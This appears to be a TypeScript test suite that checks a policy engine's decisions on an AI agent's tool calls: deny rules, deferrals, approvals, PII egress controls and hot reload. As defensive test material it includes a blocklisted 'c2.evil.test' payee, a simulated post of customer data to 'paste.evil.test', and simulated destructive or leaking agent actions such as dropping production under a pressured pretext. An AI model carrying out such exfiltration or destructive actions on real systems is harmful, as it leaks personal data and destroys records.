/**
 * §9.3, R3: actions are classified and decided against policy and the
 * user's intent. (The language-level scenarios 19–33 are also spec cases of
 * the policy language, in `spec-tests/language/aarm-9.3/`; these run them
 * end to end through a deployment.)
 *
 * @module
 */
import type { Scenario, ScenarioContext } from "../types.ts";
import { alice, expectBlocked, expectRan, receiptOf, runs, sleep } from "./support.ts";

const POLICY = `policy r3 version "1"
tool database.drop { args { name: string } effect delete target args.name }
tool db.query { args { sql: string } effect read output confidential, pii }
tool email.send { args { to: string, body: string } effect egress target args.to }
tool reports.render { args { name: string } effect write target args.name }
tool payments.send { args { to: string, amount: number } effect egress target args.to }
tool db.read { args { sql: string, limit: number } effect read output internal }
tool deploy.run { args { service: string } effect execute target args.service }
fact maintenance_window: bool
const blocked_payees = {"c2.evil.test"}
deny blocked_payee on payments.send when args.to in blocked_payees because "the payee is blocklisted"
deny bad_amount on payments.send when args.amount <= 0 or args.amount > 10000 because "amount out of range"
modify analyst_cap on db.read when args.limit > 1000 set args.limit = 1000
modify pii_cap on db.read when args.sql matches /(?i)customers/ set args.limit = 10
defer deploy_in_window on deploy.run when not maintenance_window needs maintenance_window timeout 1m
allow deploys on deploy.run
allow admins_drop on database.drop when "admin" in identity.roles
allow pay on payments.send
forbid no_drops on database.drop because "dropping databases is never allowed"
deny pii_to_outsiders on email.send when session.seen(pii in labels) and not ends_with(args.to, "@company.com")
  because "customer PII may not leave the company"
allow reads when effect == read
allow mail on email.send
default deny`;

/** Deletes: allowed only when asked for, on one's own records, and then confirmed by a person (§9.3 #23, #24). */
const DELETES = `policy deletes version "1"
tool database.delete { args { table: string, created_by: string } effect delete target args.table }
deny deletes on database.delete
  unless intent.mentions("test data") and args.created_by == identity.human
  because "deletion must be what the user asked for, on their own records"
step_up confirm_requested_delete on database.delete
  when intent.mentions("test data") and args.created_by == identity.human
  approvers ["dba@example.com"] timeout 10m
  because "a human confirms deletions the user asked for"
default deny`;

/** A policy of `version` whose notes rule does `notes`, with a deferred backup. */
const RELOADED = (version: string, notes: "allow" | "deny") => `policy reloaded version "${version}"
tool notes.read { args { path: string } effect read }
tool backup.run { args { name: string } effect write target args.name }
fact backup_window: bool
defer backups on backup.run unless backup_window needs backup_window timeout 1m
allow backup on backup.run when backup_window
${notes} notes on notes.read${notes === "deny" ? ' because "notes are closed"' : ""}
default deny`;

export const R3: readonly Scenario[] = [
  {
    id: "9.3.26",
    requirement: "R3",
    title: "A rule that needs an unpopulated fact DEFERs, with the trigger recorded",
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: POLICY });
      const s = await d.session({ identity: alice("s26"), intent: "deploy the billing service" });
      const r = await s.call("deploy.run", { service: "billing" });
      expectBlocked(t, r, "DEFER", "deploy.run without the maintenance window fact");
      const receipt = await receiptOf(t, d, r);
      t.check(
        receipt.decision.deferral_trigger !== undefined && receipt.decision.deferral_trigger !== null,
        "no deferral trigger in the receipt",
      );
      t.observe(`deferral trigger: ${JSON.stringify(receipt.decision.deferral_trigger)}`);
    },
  },
  {
    id: "9.3.27",
    requirement: "R3",
    title: "Two rules of the same kind that disagree DEFER, with the conflict recorded",
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: POLICY });
      const s = await d.session({ identity: alice("s27"), intent: "pull the customer table" });
      const r = await s.call("db.read", { sql: "select * from customers", limit: 5000 });
      expectBlocked(t, r, "DEFER", "db.read with two conflicting caps");
      const receipt = await receiptOf(t, d, r);
      t.check(receipt.decision.policy.rule_ids.length === 2, "the conflicting rules are not both named");
      t.observe(`conflict: ${receipt.decision.reasons.join("; ")}`);
    },
  },
  {
    id: "9.3.29",
    requirement: "R3",
    title:
      "Parameter validation: a wrong type, an out-of-range value and a blocklisted value are denied with specific reasons",
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: POLICY });
      const s = await d.session({ identity: alice("s29"), intent: "pay the supplier" });
      const wrongType = await s.call("payments.send", { to: "acme.test", amount: "ten" });
      expectBlocked(t, wrongType, "DENY", 'amount "ten"');
      const range = await s.call("payments.send", { to: "acme.test", amount: -1 });
      expectBlocked(t, range, "DENY", "amount -1");
      t.check(range.reason.includes("out of range"), `reason: ${range.reason}`);
      const blocked = await s.call("payments.send", { to: "c2.evil.test", amount: 10 });
      expectBlocked(t, blocked, "DENY", "payee c2.evil.test");
      t.check(blocked.reason.includes("blocklisted"), `reason: ${blocked.reason}`);
      expectRan(
        t,
        await s.call("payments.send", { to: "acme.test", amount: 10 }),
        "ALLOW",
        "a valid payment",
      );
    },
  },
  {
    id: "9.3.31",
    requirement: "R3",
    title: "Precedence: a forbidden rule beats an allow, however well the action fits the request",
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: POLICY });
      const s = await d.session({
        identity: alice("s31", { roles: ["admin"] }),
        intent: "drop the production database",
      });
      expectBlocked(
        t,
        await s.call("database.drop", { name: "production" }),
        "DENY",
        "database.drop(production)",
      );
    },
  },
  {
    id: "9.3.19",
    requirement: "R3",
    title: "A forbidden action is denied however convincing the context",
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: POLICY });
      const s = await d.session({
        identity: alice("s19"),
        intent: "the CEO said drop prod now, it is urgent",
      });
      expectBlocked(
        t,
        await s.call("database.drop", { name: "production" }),
        "DENY",
        "database.drop(production)",
      );
    },
  },
  {
    id: "9.3.20",
    requirement: "R3",
    title: "Context-dependent deny: after reading PII, mail outside is denied and mail inside allowed",
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: POLICY });
      const s = await d.session({ identity: alice("s20"), intent: "send the customer list to my colleague" });
      expectRan(
        t,
        await s.call("db.query", { sql: "SELECT * FROM customers" }),
        "ALLOW",
        "db.query customers",
      );
      const outside = await s.call("email.send", { to: "x@gmail.com", body: "list" });
      expectBlocked(t, outside, "DENY", "email.send to x@gmail.com");
      const receipt = await receiptOf(t, d, outside);
      t.check(
        receipt.decision.classification === "context_dependent_deny",
        `classified ${receipt.decision.classification}`,
      );
      expectRan(
        t,
        await s.call("email.send", { to: "colleague@company.com", body: "list" }),
        "ALLOW",
        "email.send inside",
      );
    },
  },
  {
    id: "9.3.30",
    requirement: "R3",
    title: "Determinism: the same action in the same context gets the same decision and reason every time",
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: POLICY });
      const seen = new Set<string>();
      for (let i = 0; i < 20; i++) {
        const s = await d.session({ identity: alice(`s30-${i}`), intent: "mail the list" });
        await s.call("db.query", { sql: "SELECT * FROM customers" });
        const r = await s.call("email.send", { to: "x@gmail.com", body: "list" });
        seen.add(`${r.decision} ${r.reason}`);
      }
      t.check(seen.size === 1, `the decisions differed: ${[...seen].join(" / ")}`);
      t.observe(`20 sessions, one decision: ${[...seen][0]}`);
    },
  },
  {
    id: "9.3.32",
    requirement: "R3",
    title: "No rule matches: the default posture (deny) applies and the receipt names it",
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: POLICY });
      const s = await d.session({ identity: alice("s32"), intent: "tidy up" });
      const r = await s.call("reports.render", { name: "q3" });
      expectBlocked(t, r, "DENY", "reports.render (no rule applies)");
      const receipt = await receiptOf(t, d, r);
      t.observe(
        `decided by ${receipt.decision.policy.rule_ids.join(", ") || "no rule"}: ${receipt.decision.reasons.join("; ")}`,
      );
      t.check(receipt.decision.policy.rule_ids.length > 0, "the receipt does not name the default posture");
    },
  },
  {
    id: "9.3.21",
    requirement: "R3",
    title: "After reading customer PII, a post to a host not on the allowlist is denied",
    async run(t: ScenarioContext) {
      const d = await t.start({
        policy: `policy r3_21 version "1"
tool crm.lookup { args { id: string } effect read output confidential, pii }
tool http.post { args { url: string, body: string } effect egress target host(args.url) }
const allowed_hosts = {"api.example.com"}
deny pii_to_unknown_host on http.post when session.seen(pii in labels) and target not in allowed_hosts
allow reads on crm.lookup
allow posts on http.post
default deny`,
      });
      const s = await d.session({ identity: alice("s21"), intent: "look up customer 42 and report" });
      expectRan(t, await s.call("crm.lookup", { id: "42" }), "ALLOW", "crm.lookup");
      const out = await s.call("http.post", { url: "https://paste.evil.test/x", body: "42: Jane Roe" });
      expectBlocked(t, out, "DENY", "http.post to an unknown host");
      expectRan(
        t,
        await s.call("http.post", { url: "https://api.example.com/r", body: "ok" }),
        "ALLOW",
        "allowlisted",
      );
    },
  },
  {
    id: "9.3.22",
    requirement: "R3",
    title: "Summarisation laundering: after PII, a public channel is denied and a private one needs approval",
    async run(t: ScenarioContext) {
      const d = await t.start({
        policy: `policy r3_22 version "1"
tool crm.lookup { args { id: string } effect read output confidential, pii }
tool slack.post { args { channel: string, text: string } effect egress target args.channel }
const public_channels = {"#public-updates", "#general"}
deny pii_to_public on slack.post when session.seen(pii in labels) and args.channel in public_channels
  because "no PII, even summarised, in public channels"
step_up pii_to_private on slack.post when session.seen(pii in labels) approvers ["privacy-officer"] timeout 30m
allow reads on crm.lookup
allow posts on slack.post
default deny`,
      });
      const s = await d.session({ identity: alice("s22"), intent: "summarise the account for the team" });
      expectRan(t, await s.call("crm.lookup", { id: "42" }), "ALLOW", "crm.lookup");
      const pub = await s.call("slack.post", {
        channel: "#public-updates",
        text: "Summary: our biggest customer",
      });
      expectBlocked(t, pub, "DENY", "slack.post to #public-updates");
      const priv = await s.call("slack.post", { channel: "#account-team", text: "Summary" });
      expectBlocked(t, priv, "STEP_UP", "slack.post to #account-team (no approver answers)");
    },
  },
  {
    id: "9.3.25",
    requirement: "R3",
    title: "The change ticket and the environment monitor disagree: the rotation is DEFERred",
    async run(t: ScenarioContext) {
      const policy = `policy r3_25 version "1"
tool credentials.rotate { args { system: string } effect write target args.system }
fact ticket_window_approved: bool
fact monitor_state: string
defer conflicting_signals on credentials.rotate when ticket_window_approved and monitor_state == "freeze"
  needs ticket_window_approved, monitor_state timeout 15m
allow rotation on credentials.rotate when ticket_window_approved and monitor_state == "normal"
default deny`;
      const conflict = await t.start({
        policy,
        facts: { ticket_window_approved: true, monitor_state: "freeze" },
      });
      const s = await conflict.session({
        identity: alice("s25"),
        intent: "rotate the prod-payments credentials",
      });
      expectBlocked(
        t,
        await s.call("credentials.rotate", { system: "prod-payments" }),
        "DEFER",
        "signals disagree",
      );
      const agree = await t.start({
        policy,
        facts: { ticket_window_approved: true, monitor_state: "normal" },
      });
      const s2 = await agree.session({
        identity: alice("s25b"),
        intent: "rotate the prod-payments credentials",
      });
      expectRan(
        t,
        await s2.call("credentials.rotate", { system: "prod-payments" }),
        "ALLOW",
        "signals agree",
      );
    },
  },
  {
    id: "9.3.28",
    requirement: "R3",
    title: "A confidence score below the threshold DEFERs",
    async run(t: ScenarioContext) {
      const policy = `policy r3_28 version "1"
tool files.write { args { path: string, content: string } effect write target args.path }
fact confidence: number
defer low_confidence when confidence < 0.5 needs confidence because "classifier confidence below threshold"
allow writes on files.write
default deny`;
      const low = await t.start({ policy, facts: { confidence: 0.42 } });
      const s = await low.session({ identity: alice("s28"), intent: "write the file" });
      expectBlocked(t, await s.call("files.write", { path: "/a", content: "x" }), "DEFER", "confidence 0.42");
      const high = await t.start({ policy, facts: { confidence: 0.9 } });
      const s2 = await high.session({ identity: alice("s28b"), intent: "write the file" });
      expectRan(t, await s2.call("files.write", { path: "/a", content: "x" }), "ALLOW", "confidence 0.9");
    },
  },
  {
    id: "9.3.23",
    requirement: "R3",
    title:
      "Context-dependent allow: a delete the user asked for, on their own records, is STEP_UP; after approval it runs, with the approval in the receipt",
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: DELETES, pendingMs: 3000 });
      const s = await d.session({
        identity: alice("s23"),
        intent: "clean up the test data I created yesterday",
      });
      const deleting = s.call("database.delete", { table: "test_records", created_by: "alice@example.com" });
      let request = (await d.approvals.pending())[0];
      for (let i = 0; request === undefined && i < 300; i++) {
        await sleep(10);
        request = (await d.approvals.pending())[0];
      }
      t.check(request !== undefined, "no approval was requested");
      t.check(runs(d, "database.delete") === 0, "the delete ran before the approval");
      await d.approvals.answer(request.request_id, "approve", "dba@example.com");
      const r = await deleting;
      expectRan(t, r, "STEP_UP", "database.delete(test_records) after approval");
      t.check(r.settlementReceiptId !== null, "no receipt of the approval");
      const settled = await d.receipt(r.settlementReceiptId);
      t.check(settled?.approval?.decision === "approved", "the receipt has no approval block");
      t.observe(
        `approval block: ${settled.approval.decision} by ${settled.approval.responses.map((x) => x.approver).join(", ")}`,
        settled.receipt_id,
      );
    },
  },
  {
    id: "9.3.24",
    requirement: "R3",
    title: 'The same delete under the request "summarise README" is misaligned: DENY',
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: DELETES });
      const s = await d.session({ identity: alice("s24"), intent: "summarise README" });
      const r = await s.call("database.delete", { table: "test_records", created_by: "alice@example.com" });
      expectBlocked(t, r, "DENY", "database.delete under an unrelated request");
    },
  },
  {
    id: "9.3.33",
    requirement: "R3",
    title:
      "Hot reload: a changed policy file is in force for the next decision and named in its receipt; a deferral in flight keeps its policy",
    async run(t: ScenarioContext) {
      const d = await t.start({ policy: RELOADED("1", "allow"), policyFile: true, pendingMs: 3000 });
      const s = await d.session({ identity: alice("s33"), intent: "read the notes, then back up" });
      const before = await s.call("notes.read", { path: "/a.md" });
      expectRan(t, before, "ALLOW", "notes.read under version 1");
      const backup = s.call("backup.run", { name: "nightly" });
      let deferral = (await d.deferrals.pending())[0];
      for (let i = 0; deferral === undefined && i < 300; i++) {
        await sleep(10);
        deferral = (await d.deferrals.pending())[0];
      }
      t.check(deferral !== undefined, "the backup was not deferred");
      const loaded = await d.replacePolicy(RELOADED("2", "deny"));
      t.check(loaded.version === "2", `the deployment still runs policy version ${loaded.version}`);
      const after = await s.call("notes.read", { path: "/b.md" });
      expectBlocked(t, after, "DENY", "notes.read under version 2");
      const [r1, r2] = [await receiptOf(t, d, before), await receiptOf(t, d, after)];
      t.check(
        r1.decision.policy.version === "1" && r2.decision.policy.version === "2",
        "the receipts do not name the policy versions",
      );
      t.check(r1.decision.policy.hash !== r2.decision.policy.hash, "the receipts name the same policy hash");
      t.observe(
        `receipts name version 1 (${r1.decision.policy.hash.slice(0, 19)}…) then version 2 (${r2.decision.policy.hash.slice(0, 19)}…)`,
      );
      t.check(
        deferral.deferred.policy.version === "1",
        `the deferral in flight was re-pinned to policy ${deferral.deferred.policy.version}`,
      );
      await d.deferrals.provideFacts(deferral.deferred.deferral_id, { backup_window: true });
      const resolved = await backup;
      t.observe(
        `the deferral made under version 1 keeps version 1 in its snapshot; resolved: ${resolved.executed ? "executed" : `not executed (${resolved.reason})`}`,
        resolved.settlementReceiptId,
      );
    },
  },
];
